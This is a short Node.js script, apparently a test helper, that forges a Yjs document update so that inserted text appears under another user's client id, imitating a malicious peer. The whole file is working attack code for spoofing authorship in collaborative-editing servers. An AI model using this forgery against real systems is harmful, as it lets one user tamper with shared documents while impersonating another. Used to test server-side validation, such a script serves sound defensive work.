// Forge a Yjs update with the npm `yjs` package: items under someone else's client id.
// stdin: JSON {state: base64 of the server's document, client: the victim's id, text}.
// stdout: base64 of an update that inserts `text` at the start, under `client`, at its
// next clock: exactly what a malicious peer would send.
import { createRequire } from "node:module";
import { readFileSync } from "node:fs";

const require = createRequire(process.argv[2]);
const Y = require("yjs");

const input = JSON.parse(readFileSync(0, "utf8"));
const doc = new Y.Doc();
Y.applyUpdate(doc, Buffer.from(input.state, "base64"));
const before = Y.encodeStateVector(doc);
doc.clientID = input.client;
doc.getText("content").insert(0, input.text);
process.stdout.write(Buffer.from(Y.encodeStateAsUpdate(doc, before)).toString("base64"));
